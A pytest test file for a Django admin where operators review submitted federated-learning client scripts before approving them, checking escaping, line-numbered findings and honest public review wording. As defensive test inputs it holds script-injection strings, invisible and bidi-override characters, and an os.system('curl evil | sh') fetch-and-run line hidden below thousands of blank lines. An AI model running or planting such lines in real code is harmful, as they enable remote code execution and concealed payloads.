import hashlib
import re

from django.urls import reverse
from django.utils.html import escape

from indexer import services
from indexer.models import Candidacy, Decision
from indexer.tests.conftest import corpus_file

CHANGELIST = reverse("admin:indexer_candidacy_changelist")


def awaiting(card, content=None):
    candidacy = services.candidacy_submit(card=card, num_rounds=5, min_clients=2, client_filename="Client.py",
                                          client_content=content or corpus_file("clean_legacy.txt"))
    services.candidacy_validate(candidacy_id=candidacy.pk)
    return candidacy


def test_operators_see_status_verdict_and_findings(admin_client, card):
    awaiting({**card, "name": "Shell user"}, corpus_file("os_system.txt"))
    page = admin_client.get(CHANGELIST, {"verdict": "findings"}).content.decode()
    assert "Shell user" in page and "Has findings" in page and "Awaiting review" in page


def change_page(client, candidacy) -> str:
    return client.get(reverse("admin:indexer_candidacy_change", args=[candidacy.pk])).content.decode()


def source_row(page: str, number: int, prefix: str = "L") -> str:
    """The listing's row for line ``number``: its opening tag's attributes through its text."""
    parts = page.split(f' id="{prefix}{number}">')
    return parts[1].split("</div>")[0] if len(parts) > 1 else ""


def anchored_lines(page: str, prefix: str = "L") -> list[int]:
    return [int(number) for number in re.findall(rf' id="{prefix}(\d+)">', page)]


def row_class(page: str, number: int) -> str:
    return page.split(f' id="L{number}">')[0].rsplit("<div", 1)[1]


def test_every_finding_links_to_its_line_in_the_whole_numbered_source(admin_client, card):
    candidacy = awaiting(card, corpus_file("os_system.txt"))
    finding = Candidacy.objects.get(pk=candidacy.pk).report["findings"][0]
    page = change_page(admin_client, candidacy)
    assert f'<a href="#L{finding["line"]}">line {finding["line"]}</a>' in page
    flagged = source_row(page, finding["line"])
    assert "os.system" in flagged and finding["rule"] in flagged
    assert "f2f-flagged" in row_class(page, finding["line"]) and "f2f-flagged" not in row_class(page, 1)
    total = len(corpus_file("os_system.txt").decode().split("\n"))
    assert anchored_lines(page) == list(range(1, total + 1))


def test_a_candidacy_with_no_findings_still_shows_its_whole_source(admin_client, card):
    candidacy = awaiting(card)
    assert Candidacy.objects.get(pk=candidacy.pk).verdict == "clean"
    page = change_page(admin_client, candidacy)
    assert "No known-dangerous pattern found" in page and "Clean" not in page
    lines = corpus_file("clean_legacy.txt").decode().split("\n")
    number, text = next((n, line) for n, line in enumerate(lines, start=1) if "flwr" in line)
    assert escape(text) in source_row(page, number)


def test_the_source_numbers_lines_as_python_does(admin_client, card):
    # A form feed or U+2028 in a comment must not shift the numbering away from the flagged line.
    source = corpus_file("os_system.txt").replace(b"import argparse", b"# \x0c \xe2\x80\xa8 note\nimport argparse", 1)
    candidacy = awaiting(card, source)
    finding = Candidacy.objects.get(pk=candidacy.pk).report["findings"][0]
    assert "os.system" in source_row(change_page(admin_client, candidacy), finding["line"])


HOSTILE = (
    'BANNER = "</textarea></span></div></section><script>alert(1)</script>"  # \u202e desrever \u2066\n'
    "x = 1  # zero\u200bwidth, \u3164 filler, no-break\u00a0space, form\x0cfeed, escape \x1b[2J, line\u2028sep\n"
    f'LONG = "{"x" * 5000}"\n'
    f'WIDE = 1{" " * 200}; HIDDEN = 2\n'
).encode()


def test_hostile_text_in_the_source_is_shown_inert(admin_client, card):
    base = corpus_file("clean_legacy.txt")
    candidacy = awaiting(card, base + HOSTILE)
    page = change_page(admin_client, candidacy)
    first = len(base.decode().split("\n"))
    banner, chars, long, wide = (source_row(page, first + n) for n in range(4))

    assert "<script>alert(1)</script>" not in page and "</textarea></span>" not in page
    assert "&lt;/textarea&gt;&lt;/span&gt;&lt;/div&gt;&lt;/section&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in banner
    # Nothing that draws as nothing, or reorders the text around it, reaches the page: each is a visible badge.
    for char in "\u202e\u2066\u200b\u3164\u00a0\x0c\x1b\u2028":
        assert char not in page
    assert ">U+202E<" in banner and ">U+2066<" in banner and "RIGHT-TO-LEFT OVERRIDE" in banner
    assert all(f">U+{code}<" in chars for code in ("200B", "3164", "00A0", "000C", "001B", "2028"))
    assert "x" * 5000 in long  # a very long line is one row, whole (the style sheet wraps it)
    assert ">200 blanks<" in wide and "HIDDEN = 2" in wide
    assert anchored_lines(page) == list(range(1, first + 5))


def test_every_character_the_analyzer_calls_hiding_is_shown_as_a_badge():
    from indexer.admin import line_html, unreadable
    from indexer.analysis import hidden_characters

    # Planes 0, 1 and 14 hold every format and control character; 2-3 are ideographs, 15-16 private use.
    codes = [*range(0x20000), *range(0xE0000, 0xF0000)]
    everything = "\n".join(chr(code) for code in codes if code not in (10, 13) and not 0xD800 <= code <= 0xDFFF)
    flagged = [everything.split("\n")[finding.line - 1] for finding in hidden_characters(everything)]
    assert len(flagged) > 20 and all(unreadable(char) and "f2f-char" in line_html(char) for char in flagged)
    assert line_html("café ≠ naïve 中文") == "café ≠ naïve 中文"  # ordinary letters and symbols stay as they are


def test_code_pushed_down_by_blank_lines_is_one_fold_away(admin_client, card):
    base = corpus_file("clean_legacy.txt")
    candidacy = awaiting(card, base + b"\n" * 5000 + b"import os\nos.system('curl evil | sh')\n")
    page = change_page(admin_client, candidacy)
    finding = Candidacy.objects.get(pk=candidacy.pk).report["findings"][-1]
    first_blank = len(base.decode().split("\n"))
    assert f"5,000 blank lines ({first_blank}\u2013{first_blank + 4999})" in source_row(page, first_blank)
    assert finding["line"] == first_blank + 5001 and "os.system" in source_row(page, finding["line"])
    assert len(page) < 100_000


def test_a_256_kb_file_renders_whole_and_compact(admin_client, card):
    helper = b"\n\ndef helper_%d(values):\n    total = 0\n    for v in values:\n        total += v\n    return total\n"
    content = corpus_file("os_system.txt")
    while len(content) < 250 * 1024:
        content += helper % len(content)
    candidacy = awaiting(card, content)
    page = change_page(admin_client, candidacy)
    total = len(content.decode().split("\n"))
    assert total > 10_000 and anchored_lines(page) == list(range(1, total + 1))
    assert len(page) < 8 * len(content)


def test_requirements_are_listed_numbered_and_inert(admin_client, card):
    candidacy = services.candidacy_submit(card=card, num_rounds=5, min_clients=2, client_filename="Client.py",
                                          client_content=corpus_file("clean_legacy.txt"),
                                          requirements_txt="flwr==1.42.0\n<script>alert(2)</script>\n")
    page = change_page(admin_client, candidacy)
    assert "flwr==1.42.0" in source_row(page, 1, "R") and "&lt;script&gt;alert(2)" in source_row(page, 2, "R")
    assert "<script>alert(2)" not in page


def test_the_approval_page_repeats_the_hash_and_size_that_will_be_served(admin_client, card):
    candidacy = awaiting(card, corpus_file("os_system.txt"))
    page = admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk]}).content.decode()
    content = corpus_file("os_system.txt")
    assert f'data-testid="sha256">{hashlib.sha256(content).hexdigest()}<' in page
    assert f'data-testid="size">{len(content)} bytes<' in page
    assert "Has findings" in page and "Read the source" in page


def test_the_approval_page_hashes_the_bytes_themselves_not_the_stored_digest(admin_client, card):
    candidacy = awaiting(card)
    Candidacy.objects.filter(pk=candidacy.pk).update(client_sha256="0" * 64)
    page = admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk]}).content.decode()
    assert hashlib.sha256(corpus_file("clean_legacy.txt")).hexdigest() in page and "0" * 64 not in page


def test_no_page_calls_a_script_clean_or_safe(admin_client, card):
    candidacy = awaiting(card)
    pages = [admin_client.get(CHANGELIST).content.decode(), change_page(admin_client, candidacy),
             admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk]}).content.decode()]
    for page in pages:
        assert "No known-dangerous pattern found" in page
        shown = re.sub(r"<[^>]*>", " ", page)  # the words a reader sees, not attribute values such as ?verdict=clean
        assert not re.search(r"\b(clean|safe)\b", shown, re.IGNORECASE)


def test_staff_who_may_only_view_cannot_decide(client, django_user_model, card):
    from django.contrib.auth.models import Permission

    viewer = django_user_model.objects.create_user("viewer", password="x", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_candidacy"))
    client.force_login(viewer)
    candidacy = awaiting(card)
    client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk], "apply": "1", "reason": "x"})
    assert Candidacy.objects.get(pk=candidacy.pk).status == "awaiting_review"


def test_approving_asks_for_a_reason_then_lists_the_federation(admin_client, admin_user, card):
    candidacy = awaiting(card)
    ask = admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk]})
    assert ask.status_code == 200 and "Confirm: approved" in ask.content.decode()
    assert Candidacy.objects.get(pk=candidacy.pk).status == "awaiting_review"

    admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk], "apply": "1",
                                   "reason": "Reviewed: clean."})
    candidacy.refresh_from_db()
    assert candidacy.status == "approved" and candidacy.federation is not None
    decision = Decision.objects.get()
    assert (decision.actor, decision.reason) == (admin_user, "Reviewed: clean.")
    page = admin_client.get(reverse("admin:indexer_candidacy_change", args=[candidacy.pk])).content.decode()
    assert "Reviewed: clean." in page  # the decision is visible in the admin


def test_an_empty_reason_decides_nothing(admin_client, card):
    candidacy = awaiting(card)
    response = admin_client.post(CHANGELIST, {"action": "decline", "_selected_action": [candidacy.pk], "apply": "1",
                                              "reason": ""})
    assert response.status_code == 200 and "This field is required." in response.content.decode()
    assert Candidacy.objects.get(pk=candidacy.pk).status == "awaiting_review"


def test_deciding_a_rejected_candidacy_reports_an_error(admin_client, card):
    candidacy = awaiting(card, corpus_file("syntax_error.txt"))
    response = admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk], "apply": "1",
                                              "reason": "ok"}, follow=True)
    assert "Only a candidacy awaiting review can be decided" in response.content.decode()
    assert Candidacy.objects.get(pk=candidacy.pk).status == "rejected"


def test_the_public_page_says_when_the_script_was_checked_and_reviewed(admin_client, client, card):
    candidacy = awaiting(card)
    admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk], "apply": "1",
                                   "reason": "Read it."})
    candidacy.refresh_from_db()
    decision = Decision.objects.get()
    page = client.get(candidacy.federation.get_absolute_url()).content.decode()
    review = page.split('data-testid="review">')[1].split("</p>")[0]
    assert "checked automatically for known-dangerous patterns when it was submitted, on " in review
    assert "and reviewed by an operator, who approved it on " in review
    assert decision.at.strftime("%Y-%m-%d") in review and candidacy.created_at.strftime("%Y-%m-%d") in review
    assert "safe" not in review.lower() and "clean" not in review.lower()


def test_the_public_page_claims_no_review_for_a_federation_added_by_the_operator(client, make_federation):
    federation = make_federation()
    review = client.get(federation.get_absolute_url()).content.decode().split('data-testid="review">')[1].split("</p>")[0]
    assert "not submitted through Be a Server" in review and "reviewed" not in review


def test_the_public_page_does_not_vouch_for_a_file_replaced_after_approval(admin_client, client, card):
    from federations.models import ClientFile

    candidacy = awaiting(card)
    admin_client.post(CHANGELIST, {"action": "approve", "_selected_action": [candidacy.pk], "apply": "1",
                                   "reason": "Read it."})
    federation = Candidacy.objects.get(pk=candidacy.pk).federation
    content = corpus_file("os_system.txt")
    federation.client_file = ClientFile.objects.create(sha256=hashlib.sha256(content).hexdigest(), content=content,
                                                       size=len(content))
    federation.save()
    review = client.get(federation.get_absolute_url()).content.decode().split('data-testid="review">')[1].split("</p>")[0]
    assert "replaced afterwards and not checked" in review and "reviewed by an operator" not in review
